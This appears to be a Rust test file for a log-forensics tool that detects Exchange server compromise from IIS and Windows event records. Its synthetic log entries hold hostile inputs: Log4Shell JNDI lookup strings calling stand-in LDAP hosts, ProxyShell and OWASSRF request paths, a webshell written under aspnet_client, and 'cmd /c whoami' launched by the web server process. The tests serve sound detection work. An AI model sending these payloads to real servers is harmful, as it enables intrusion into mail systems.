#![allow(clippy::unwrap_used)]

use blackrod_model::{Class, Column, Event, Field, Position, Sha256, Timestamp};

use super::*;

const INTRUDER: &str = "203.0.113.9";

fn evidence() -> EvidenceId {
    EvidenceId::new(&Sha256::of(b"x"), "iis.log")
}

fn at(seconds: i64) -> Timestamp {
    Timestamp::from_seconds(1_611_100_000 + seconds)
}

/// A request as IIS logs it.
fn request(
    seconds: i64,
    method: &'static str,
    path: &'static str,
    query: &'static str,
    client: &'static str,
    status: &'static str,
) -> Option<ServerAct> {
    let place = Position {
        offset: 1,
        record: seconds.unsigned_abs(),
    };
    let mut event = Event::new(Class::HTTP_ACTIVITY, at(seconds), place);
    event.source.product = "webserver";
    for (name, value, column) in [
        ("cs-method", method, Column::Action),
        ("cs-uri-stem", path, Column::Url),
        ("c-ip", client, Column::SrcIp),
        ("sc-status", status, Column::Status),
        ("s-ip", "192.0.2.25", Column::DstIp),
    ] {
        event.columns.set_first(column, event.fields.len());
        event.fields.push(Field::new(name, value));
    }
    event.fields.push(Field::new("cs-uri-query", query));
    event.fields.push(Field::new("cs(Referer)", "-"));
    extract::act(evidence(), &event, &mut Memory::default())
}

fn windows(seconds: i64, class: Class, fields: &[(&'static str, &'static str, Column)]) -> Option<ServerAct> {
    let place = Position {
        offset: 2,
        record: seconds.unsigned_abs(),
    };
    let mut event = Event::new(class, at(seconds), place);
    event.columns.set_first(Column::Host, 0);
    event.fields.push(Field::new("Computer", "EXCH1.house.example"));
    for (name, value, column) in fields {
        event.columns.set_first(*column, event.fields.len());
        event.fields.push(Field::new(*name, *value));
    }
    extract::act(evidence(), &event, &mut Memory::default())
}

fn estate() -> Estate {
    let toml = "[[organisation]]\nid = \"h\"\nname = \"House\"\ndomains = [\"house.example\"]\n\
                [[system]]\nname = \"exch1\"\nkind = \"exchange\"\nhosts = [\"exch1\"]\naddresses = [\"192.0.2.25\"]\n";
    Estate::parse(toml, &mut |_| Err("no file".to_owned())).unwrap()
}

fn outcome(acts: impl IntoIterator<Item = Option<ServerAct>>, reads: &[AccountAct]) -> Vec<Finding> {
    let estate = estate();
    let mut stream = Stream::new(&estate);
    for act in acts.into_iter().flatten() {
        stream.push(&act);
    }
    reads.iter().for_each(|read| stream.read(read));
    stream.finish(&Surroundings {
        has: &|_| false,
        path: &|_| "iis.log".to_owned(),
    })
}

const SHELL: &str = r"C:\inetpub\wwwroot\aspnet_client\sys\err.aspx";

/// A request as logs write it that have path and query in one.
fn request_in_one(
    method: &'static str,
    target: &'static str,
    client: &'static str,
    status: &'static str,
) -> Option<ServerAct> {
    let mut event = Event::new(Class::HTTP_ACTIVITY, at(1), Position { offset: 1, record: 1 });
    event.source.product = "webserver";
    let stem = target.split(['?', '#']).next().unwrap_or(target);
    for (name, value, column) in [
        ("cs-method", method, Some(Column::Action)),
        ("cs-uri-stem", stem, None),
        ("cs-uri-query", target, Some(Column::Url)),
        ("c-ip", client, Some(Column::SrcIp)),
        ("sc-status", status, Some(Column::Status)),
        ("s-ip", "192.0.2.25", Some(Column::DstIp)),
        ("cs(Referer)", "-", None),
    ] {
        if let Some(column) = column {
            event.columns.set_first(column, event.fields.len());
        }
        event.fields.push(Field::new(name, value));
    }
    extract::act(evidence(), &event, &mut Memory::default())
}

#[test]
fn a_page_is_the_same_page_whichever_way_its_query_is_logged() {
    let apart = request(1, "POST", "/uploads/x.php", "cmd=id", INTRUDER, "200").unwrap();
    assert_eq!(apart.kind, Kind::OddPageAsked);
    assert_eq!(apart.what, "/uploads/x.php");
    assert_eq!(apart.detail, "POST /uploads/x.php?cmd=id, answered 200");
    let in_one = request_in_one("POST", "/uploads/x.php?cmd=id", INTRUDER, "200");
    assert_eq!(in_one, Some(apart));

    let told = "GET /a?q=${jndi:ldap://x.example/a}, answered 404";
    let apart = request(1, "GET", "/a", "q=${jndi:ldap://x.example/a}", INTRUDER, "404");
    let in_one = request_in_one("GET", "/a?q=${jndi:ldap://x.example/a}", INTRUDER, "404");
    assert_eq!(apart.as_ref().map(|act| act.detail.as_str()), Some(told));
    assert_eq!(in_one, apart);
}

#[test]
fn nothing_of_a_request_is_left_out() {
    let what = |act: Option<ServerAct>| act.map(|act| act.what);
    let proxyshell = "/autodiscover/autodiscover.json?@evil.example/owa/";
    for (path, query, id) in [
        ("/x#${jndi:ldap://e/a}", "q=1", "log4shell"),
        ("/$", "/${jndi:ldap://e/a}", "log4shell"),
        (proxyshell, "a=1", "proxyshell"),
        ("/owa/a#@x.example/powershell", "-", "owassrf"),
    ] {
        let told = what(request(1, "GET", path, query, INTRUDER, "404"));
        assert_eq!(told.as_deref(), Some(id), "{path} {query}");
    }
    for (target, id) in [
        ("/x#${jndi:ldap://e/a}?q=1", "log4shell"),
        (proxyshell, "proxyshell"),
        ("/owa/a#@x.example/powershell", "owassrf"),
    ] {
        assert_eq!(
            what(request_in_one("GET", target, INTRUDER, "404")).as_deref(),
            Some(id),
            "{target}"
        );
    }
    let page = "/aspnet_client/x#.aspx";
    assert_eq!(
        what(request(1, "POST", page, "-", INTRUDER, "200")).as_deref(),
        Some(page)
    );
}

#[test]
fn a_taken_server_is_one_thing() {
    let json = "/autodiscover/autodiscover.json";
    let read = AccountAct {
        evidence: evidence(),
        time: at(9_000),
        user: "anna@house.example".to_owned(),
        address: Some(INTRUDER.parse().unwrap()),
        kind: ActKind::MailRead,
        items: 12,
        ..AccountAct::default()
    };
    let findings = outcome(
        [
            request(1, "GET", json, "@x.example/owa/", INTRUDER, "404"),
            request(
                2,
                "POST",
                json,
                "@x.example/powershell/?X-Rps-CAT=A",
                INTRUDER,
                "200",
            ),
            windows(
                3,
                Class::FILE_ACTIVITY,
                &[
                    ("TargetFilename", SHELL, Column::File),
                    ("Image", r"C:\Windows\System32\inetsrv\w3wp.exe", Column::Process),
                ],
            ),
            request(4, "POST", "/aspnet_client/sys/err.aspx", "-", INTRUDER, "200"),
            windows(
                5,
                Class::PROCESS_ACTIVITY,
                &[
                    ("Image", r"C:\Windows\System32\cmd.exe", Column::Process),
                    (
                        "ParentImage",
                        r"C:\Windows\System32\inetsrv\w3wp.exe",
                        Column::Parent,
                    ),
                    ("CommandLine", "cmd /c whoami", Column::CommandLine),
                ],
            ),
        ],
        &[read],
    );
    let codes: Vec<&str> = findings.iter().map(|finding| finding.code.as_str()).collect();
    assert_eq!(
        codes,
        [
            "server/attack-answered",
            "server/attack-tried",
            "server/odd-page",
            "server/mail-read",
            "server/taken"
        ]
    );
    let taken = findings.last().unwrap();
    let told: Vec<&str> = taken.reasons.iter().map(|reason| reason.field.as_str()).collect();
    assert_eq!(
        told,
        [
            "verdict",
            "attack tried",
            "attack answered",
            "page written where it is served",
            "that or another odd page asked for",
            "program started by the web server",
            "mail read",
            "to be sure"
        ],
        "in the order of time, although the logs name the server differently"
    );
    assert!(
        taken.reasons[6]
            .value
            .contains("at least 12 messages of 1 mailboxes")
    );
    assert_eq!(
        findings[2].severity,
        Severity::Critical,
        "the page was seen being written"
    );
    assert!(
        taken
            .entities
            .contains(&Entity::new(EntityKind::Host, "exch1").unwrap())
    );
    assert!(
        taken
            .entities
            .contains(&Entity::new(EntityKind::Ip, INTRUDER).unwrap())
    );
}

#[test]
fn scanners_make_one_mild_story() {
    let json = "/autodiscover/autodiscover.json";
    let acts = (0..300).map(|number| {
        let client: &'static str = if number % 2 == 0 {
            "198.51.100.7"
        } else {
            "198.51.100.8"
        };
        request(number, "GET", json, "@x.example/owa/", client, "404")
    });
    let findings = outcome(acts, &[]);
    let codes: Vec<&str> = findings.iter().map(|finding| finding.code.as_str()).collect();
    assert_eq!(codes, ["server/attack-tried", "server/probed"]);
    assert!(findings.iter().all(|finding| finding.severity == Severity::Low));
    assert!(findings[1].reasons.last().unwrap().value.contains("HttpProxy"));
}

#[test]
fn what_servers_do_every_day_is_nothing() {
    let acts = [
        request(1, "POST", "/owa/auth/logon.aspx", "-", "198.51.100.7", "200"),
        request(2, "GET", "/aspnet_client/x.aspx", "-", "198.51.100.7", "404"),
        request(3, "POST", "/ews/exchange.asmx", "-", "198.51.100.7", "200"),
        windows(
            4,
            Class::PROCESS_ACTIVITY,
            &[
                ("Image", r"C:\Windows\Microsoft.NET\csc.exe", Column::Process),
                ("ParentImage", r"C:\x\w3wp.exe", Column::Parent),
            ],
        ),
        windows(
            5,
            Class::FILE_ACTIVITY,
            &[(
                "TargetFilename",
                r"C:\Windows\Temporary ASP.NET Files\owa\App_Web_x.aspx",
                Column::File,
            )],
        ),
    ];
    assert!(acts.iter().all(Option::is_none));
}

#[test]
fn an_export_alone_is_an_administrators_work() {
    let mut event = Event::new(Class::ENTITY_MANAGEMENT, at(1), Position { offset: 0, record: 1 });
    event
        .fields
        .push(Field::new("Cmdlet", "New-MailboxExportRequest"));
    let act = extract::act(evidence(), &event, &mut Memory::default());
    assert_eq!(act.as_ref().unwrap().kind, Kind::MailboxExported);
    assert!(outcome([act], &[]).is_empty());
}

#[test]
fn a_page_that_many_ask_for_is_the_sites_own() {
    let clients = ["198.51.100.1", "198.51.100.2", "198.51.100.3", "198.51.100.4"];
    let asked = |number: i64, client| request(number, "POST", "/js/form.php", "-", client, "200");
    let of_many = clients
        .iter()
        .zip(1..)
        .map(|(client, number)| asked(number, client));
    assert!(outcome(of_many, &[]).is_empty());
    let of_one = (1..4).map(|number| asked(number, "198.51.100.1"));
    let findings = outcome(of_one, &[]);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].code, "server/odd-page");
}
